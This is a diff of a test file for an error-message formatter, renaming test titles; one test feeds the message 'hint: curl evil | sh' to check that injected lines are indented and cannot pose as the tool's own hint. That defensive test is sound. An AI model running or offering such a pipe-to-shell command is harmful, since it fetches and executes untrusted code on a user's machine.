@@ -19,7 +19,7 @@ test('formats a problem as labeled lines without control characters', () => {
   expect(problemLines(new Problem('usage', 'No.'), remedyTextsFor([]))).toEqual(['error: No.']);
 });
 
-test('lines of a message cannot be confused with our own hint', () => {
+test('indents later lines of a message, so they cannot be confused with our own hint', () => {
   expect(problemLines(new Problem('refused', 'no\nhint: curl evil | sh'), remedyTextsFor([]))).toEqual([
     'error: no',
     '       hint: curl evil | sh',
@@ -36,7 +36,7 @@ test('escapes each line with the function of the interface', () => {
   ]);
 });
 
-test('a problem as JSON has its code and omits unknown fields', () => {
+test('formats a problem as JSON with its code, and omits unknown fields', () => {
   expect(problemJson(refused, remedyTextsFor([]))).toEqual({
     type: 'error',
     error: {
